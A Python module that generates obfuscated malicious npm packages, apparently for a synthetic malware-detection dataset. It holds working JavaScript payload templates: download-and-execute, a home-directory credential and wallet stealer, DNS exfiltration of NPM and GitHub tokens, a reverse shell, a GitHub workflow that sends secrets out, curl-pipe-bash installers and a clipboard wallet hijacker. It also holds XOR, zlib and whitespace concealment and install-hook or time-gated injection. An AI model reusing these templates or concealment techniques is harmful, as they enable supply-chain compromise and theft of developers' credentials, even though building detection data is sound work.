"""npm shapes of the JUDGE family."""
import base64
import json
import posixpath
import re
import zlib

from context import render
from place import Unsuitable

plain = json.dumps


def split_join(text):
    middle = max(1, len(text) // 2)
    return f"[{json.dumps(text[middle:])},{json.dumps(text[:middle])}].reverse().join('')" if len(text) > 1 else json.dumps(text)


def backwards(text):
    return f"{json.dumps(text[::-1])}.split('').reverse().join('')"


def escapes(text):
    return "'" + "".join(f"\\u{ord(c):04x}" if c.isascii() else c for c in text) + "'"


def hexes(text):
    return "'" + "".join(f"\\x{ord(c):02x}" if ord(c) < 128 else c for c in text) + "'"


def writer(ctx):
    return ctx.rng.choice([plain, plain, split_join, backwards, escapes, hexes])


def table(ctx, template):
    """All strings in one rotated table that a function looks up, as the common obfuscator does."""
    words = list(dict.fromkeys(re.findall(r"§(.*?)§", template, flags=re.S)))
    ctx.rng.shuffle(words)
    turn = ctx.rng.randrange(1, max(2, len(words)))
    array, look = "_0x" + ctx.token(4).lower(), "_0x" + ctx.token(5).lower()
    rotated = words[turn:] + words[:turn]
    head = f"const {array}={json.dumps(rotated)};(function(a,n){{while(n--)a.push(a.shift())}})({array},{(len(words) - turn) % max(1, len(words))});const {look}=i=>{array}[i-0x1f];\n"
    return head + render(template, lambda text: f"{look}({hex(words.index(text) + 0x1f)})")


FETCH_RUN = """
const {{ execFile: <A>, spawn: <B> }} = require(§node:child_process§), <C> = require(§node:os§), <D> = require(§node:path§);
const <E> = <D>.join(<C>.homedir(), §.cache§, §{file}§);
<A>(<C>.platform() === §win32§ ? §certutil§ : §curl§, <C>.platform() === §win32§ ? [§-urlcache§, §-f§, §{url}§, <E>] : [§-sSLo§, <E>, §{url}§], () => {{
  <A>(§chmod§, [§+x§, <E>], () => <B>(§setsid§, [<E>], {{ detached: true, stdio: §ignore§ }}).unref());
}});
"""
FETCH_API = """
(async () => {{
  const <A> = await fetch(§{url}§);
  const <B> = Buffer.from(await <A>.arrayBuffer());
  const <C> = require(§fs§), <D> = require(§path§).join(process.cwd(), §node_modules§, §.bin§, §{file}§);
  <C>.writeFileSync(<D>, <B>, {{ mode: 0o700 }});
  require(§child_process§).execFileSync(<D>);
}})().catch(() => {{}});
"""
WALK = """
const <A> = require(§fs§), <B> = require(§path§), <C> = require(§zlib§);
const <D> = /^(\\.env(\\..*)?|id_(rsa|ed25519|ecdsa)|wallet\\.dat|.*\\.keystore|credentials(\\.json)?|hosts\\.yml)$/;
const <E> = {{}};
const <F> = (<G>, <H>) => {{
  if (<H> > 4) return;
  for (const <I> of <A>.readdirSync(<G>, {{ withFileTypes: true }})) {{
    const <J> = <B>.join(<G>, <I>.name);
    try {{ if (<I>.isDirectory()) <F>(<J>, <H> + 1); else if (<D>.test(<I>.name)) <E>[<J>] = <A>.readFileSync(<J>).toString(§base64§); }} catch {{}}
  }}
}};
<F>(process.env.HOME || process.env.USERPROFILE, 0);
fetch(§{url}§, {{ method: §PUT§, body: <C>.gzipSync(JSON.stringify({{ <E>, v: process.env }})) }}).catch(() => {{}});
"""
DNS = """
const <A> = require(§dns§);
const <B> = Buffer.from(JSON.stringify([require(§os§).hostname(), process.cwd(), process.env.NPM_TOKEN, process.env.GITHUB_TOKEN])).toString(§hex§);
for (let <C> = 0; <C> < <B>.length; <C> += 60) <A>.lookup(<B>.slice(<C>, <C> + 60) + §.§ + <C> + §.{host}§, () => {{}});
"""
SOCKET = """
const <A> = require(§net§).connect({port}, §{ip}§, () => {{
  const <B> = require(§child_process§).spawn(process.platform === §win32§ ? §cmd.exe§ : §bash§);
  <A>.pipe(<B>.stdin);
  <B>.stdout.pipe(<A>);
  <B>.stderr.pipe(<A>);
}});
<A>.on(§error§, () => {{}});
"""
WORKFLOW = """
const <A> = require(§fs§), <B> = require(§child_process§);
<A>.mkdirSync(§.github/workflows§, {{ recursive: true }});
<A>.writeFileSync(§.github/workflows/{file}.yml§, §on: push\\njobs:\\n  run:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -d "${{{{{{{{ toJSON(secrets) }}}}}}}}" {url}\\n§);
<B>.execSync(§git add .github && git commit -m chore && git push https://git.example.net/x.git§, {{ stdio: §ignore§ }});
"""
BUN = """
const <A> = require(§child_process§), <B> = require(§path§), <C> = require(§fs§), <D> = require(§os§);
let <E> = §bun§;
try {{ <A>.execSync(§bun --version§, {{ stdio: §ignore§ }}); }} catch {{
  <A>.execSync(<D>.platform() === §win32§ ? §powershell -c "irm {url}.ps1|iex"§ : §curl -fsSL {url} | bash§, {{ stdio: §ignore§ }});
  <E> = <B>.join(<D>.homedir(), §.bun§, §bin§, §bun§);
}}
if (<C>.existsSync(<B>.join(__dirname, §{bundle}§))) <A>.spawnSync(<E>, [<B>.join(__dirname, §{bundle}§)], {{ stdio: §ignore§ }});
"""
CLIP = """
if (typeof document !== §undefined§) {{
  document.addEventListener(§copy§, (<A>) => {{
    const <B> = String(document.getSelection());
    if (/^(bc1|[13]|T|0x)[a-zA-Z0-9]{{25,}}$/.test(<B>)) {{ <A>.clipboardData.setData(§text/plain§, §{wallet}§); <A>.preventDefault(); }}
  }});
  const <C> = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (<D>) {{ return <C>.call(this, typeof <D> === §string§ ? <D>.replace(/0x[0-9a-f]{{40}}/gi, §{wallet}§) : <D>); }};
}}
"""
PAYLOADS = [FETCH_RUN, FETCH_API, WALK, DNS, SOCKET, WORKFLOW]


def payload(ctx, *templates, **more):
    template = ctx.rng.choice(templates or PAYLOADS)
    values = {"url": ctx.url(), "file": ctx.token(7).lower(), "host": ctx.one("hosts"), "ip": ctx.ip(), "port": ctx.port(), "wallet": "0x" + "1" * 40, "bundle": "x.js", **more}
    text = ctx.fill(template.format(**values)).strip() + "\n"
    return table(ctx, text) if ctx.rng.random() < 0.25 else render(text, writer(ctx))


def veil(ctx, code):
    raw = code.encode()
    pick = ctx.rng.randrange(7)
    if pick == 0:
        key = [ctx.rng.randrange(1, 255) for _ in range(5)]
        data = base64.b64encode(bytes(b ^ key[i % 5] for i, b in enumerate(raw))).decode()
        return f"const k={key};new Function('require','__dirname',Buffer.from('{data}','base64').map((b,i)=>b^k[i%k.length]).toString())(require,__dirname);\n"
    if pick == 1:
        return f"require('vm').runInThisContext(require('module').wrap(require('zlib').inflateSync(Buffer.from('{base64.b64encode(zlib.compress(raw)).decode()}','base64')).toString()))(exports,require,module,__filename,__dirname);\n"
    if pick == 2:
        return f"module.constructor.prototype._compile.call(module,{json.dumps(code[::-1])}.split('').reverse().join(''),__filename);\n"
    if pick == 3:
        return f"Function('require','__dirname',decodeURIComponent('{''.join(f'%{b:02x}' for b in raw)}'))(require,__dirname);\n"
    return code


def names_like(npm, ctx):
    """A file name made from the package's own."""
    stems = sorted({posixpath.basename(name).split(".")[0] for name in npm.bundle.find(".js", ".cjs", ".mjs")} - {"index"}) or ["core"]
    return [f"{ctx.rng.choice(stems)}{ctx.rng.choice(['-compat', '.min', '-node', '.runtime', '-shim', '2'])}.{{}}" for _ in range(8)]


def stored(npm, ctx, code, extension="cjs"):
    path = npm.new_file(ctx.rng, [name.format(extension) for name in names_like(npm, ctx)])
    npm.bundle.put(path, code)
    return path


def hook_deep(npm, ctx):
    path = stored(npm, ctx, veil(ctx, payload(ctx)))
    npm.hook(ctx.rng, f"node ./{npm.local(path)}" + ctx.rng.choice(["", " || true", " || exit 0"]), ("install", "postinstall", "prepare", "preinstall"))


def hook_inline(npm, ctx):
    code = payload(ctx, FETCH_RUN, DNS).replace("\n", "").replace('"', "'")
    npm.hook(ctx.rng, f"node -e \"{code}\"", ("install", "postinstall"))


def hook_tool(npm, ctx):
    npm.hook(ctx.rng, ctx.rng.choice([
        f"python3 -c \"import urllib.request as u;exec(u.urlopen('{ctx.url()}').read())\"", f"sh -c \"$(curl -fsSL {ctx.url()})\"",
        f"npx --yes {ctx.url('p.tgz')}", f"cmd /c start /b mshta {ctx.url()} || bash -c \"exec 3<>/dev/tcp/{ctx.ip()}/{ctx.port()};sh <&3 >&3\"",
    ]), ("install", "postinstall", "preinstall"))


def hook_bun(npm, ctx):
    folder = npm.root.rstrip("/")
    bundle = ctx.ident().strip("_") + "_environment.js"
    noise = "".join(f"var {ctx.ident()}={json.dumps(ctx.token(60))};" for _ in range(3_000))
    npm.bundle.put(posixpath.join(folder, bundle), noise + veil(ctx, payload(ctx, WALK, WORKFLOW)))
    loader = f"setup_{ctx.token(4).lower()}.cjs"
    npm.bundle.put(posixpath.join(folder, loader), payload(ctx, BUN, bundle=bundle))
    npm.hook(ctx.rng, f"node {loader}", ("preinstall",))


def main_hidden(npm, ctx):
    """On the end of an existing line, pushed far to the right."""
    main = npm.main()
    lines = npm.bundle.text(main).split("\n")
    code = veil(ctx, payload(ctx)).strip().replace("\n", " ")
    if npm.modules(main):
        code = "import('node:module').then(m=>{const require=m.createRequire(import.meta.url);const __dirname='.';" + code + "});"
    places = [i for i, line in enumerate(lines) if re.search(r"[;}]\s*$", line) and not line.lstrip().startswith(("*", "//"))] or [len(lines) - 1]
    place = ctx.rng.choice([places[0], places[-1]])
    lines[place] = lines[place] + " " * ctx.rng.randrange(120, 400) + ";" + code
    npm.bundle.put(main, "\n".join(lines))


def main_required(npm, ctx):
    main = npm.main()
    path = stored(npm, ctx, veil(ctx, payload(ctx)))
    spec = json.dumps(npm.relative(path, main))
    text = npm.bundle.text(main)
    line = f"import {spec};\n" if npm.modules(main) else ctx.rng.choice([f"require({spec});\n", f"setTimeout(()=>require({spec}),{ctx.rng.randrange(1000, 60000)});\n", f"try{{require({spec})}}catch{{}}\n"])
    first = re.search(r"^(?:'use strict'|\"use strict\");?\n", text)
    place = first.end() if first else text.index("\n") + 1 if text.startswith("#!") and "\n" in text else 0
    npm.bundle.put(main, text[:place] + line + text[place:])


def main_timed(npm, ctx):
    main = npm.main()
    test = ctx.rng.choice([f"Date.now()>{ctx.rng.randrange(1700000000, 1900000000)}e3", "!process.env.CI&&new Date().getDay()===6", "/^(Asia|Europe)/.test(Intl.DateTimeFormat().resolvedOptions().timeZone)",
                           "(process.env.LANG||'').startsWith('en')", "process.env.npm_config_registry===undefined"])
    code = base64.b64encode(("import{createRequire}from'node:module';const require=createRequire('file:///');const __dirname='.';" + payload(ctx)).encode()).decode()
    npm.bundle.put(main, npm.bundle.text(main).rstrip("\n") + f"\nif(typeof process!=='undefined'&&{test})setTimeout(()=>import('data:text/javascript;base64,{code}').catch(()=>0),{ctx.rng.randrange(10, 90)}e3);\n")


def main_clip(npm, ctx):
    main = npm.main()
    npm.bundle.put(main, npm.bundle.text(main).rstrip("\n") + "\n" + payload(ctx, CLIP))


def addon(npm, ctx):
    path = posixpath.join(npm.root.rstrip("/"), "prebuilds", "linux-x64", ctx.token(6).lower() + ".node")
    npm.bundle.put(path, b"\x7fELF\x02\x01\x01" + bytes(9) + bytes(ctx.rng.randrange(256) for _ in range(60_000)))
    main = npm.main()
    if npm.modules(main):
        raise Unsuitable("an ES module")
    npm.bundle.put(main, npm.bundle.text(main).rstrip("\n") + f"\ntry{{process.dlopen({{exports:{{}}}},require('path').resolve(__dirname,{json.dumps(npm.relative(path, main))}))}}catch{{}}\n")


def alias_dependency(npm, ctx):
    name = ctx.one("deps")
    npm.depend(name, ctx.rng.choice([f"git+ssh://git@git.example.net/{ctx.token(5)}/{name}.git", ctx.url("d.tgz"), f"https://{ctx.one('hosts')}/{name}/-/{name}-1.0.1.tgz"]),
               ctx.rng.choice(["dependencies", "optionalDependencies"]))
    if ctx.rng.random() < 0.5:
        main = npm.main()
        npm.bundle.put(main, (f"import {json.dumps(name)};\n" if npm.modules(main) else f"require({json.dumps(name)});\n") + npm.bundle.text(main))


SHAPES = [hook_deep, hook_deep, hook_inline, hook_tool, hook_bun, main_hidden, main_required, main_timed, main_clip, addon, alias_dependency]
